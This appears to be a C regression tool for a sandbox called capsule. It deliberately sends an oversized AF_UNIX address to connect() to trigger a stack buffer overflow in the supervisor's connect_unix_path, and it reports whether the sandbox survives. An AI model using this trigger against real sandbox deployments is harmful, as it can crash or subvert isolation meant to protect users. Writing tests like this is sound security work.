/* Hostile tool: connect() on an AF_UNIX socket with an address length of
 * 128 (sizeof(struct sockaddr_storage)), more than sizeof(struct
 * sockaddr_un) (110). The kernel would refuse it (EINVAL), but below
 * Landlock ABI 9 capsule's supervisor performs the connect itself and
 * copies len - 2 bytes into a 109-byte stack buffer
 * (src/sandbox/supervise.c connect_unix_path). Prints the errno the
 * connect got; capsule crashing shows as the sandbox being torn down. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int main(void)
{
  unsigned char addr[128];
  memset(addr, 'A', sizeof addr);
  addr[0] = AF_UNIX & 0xff;
  addr[1] = 0;
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0) {
    perror("socket");
    return 2;
  }
  for (int i = 0; i < 3; i++) {
    int r = connect(fd, (struct sockaddr *)addr, sizeof addr);
    printf("connect(len=128) -> %d (%s)\n", r, r < 0 ? strerror(errno) : "ok");
    fflush(stdout);
  }
  puts("tool still alive");
  return 0;
}
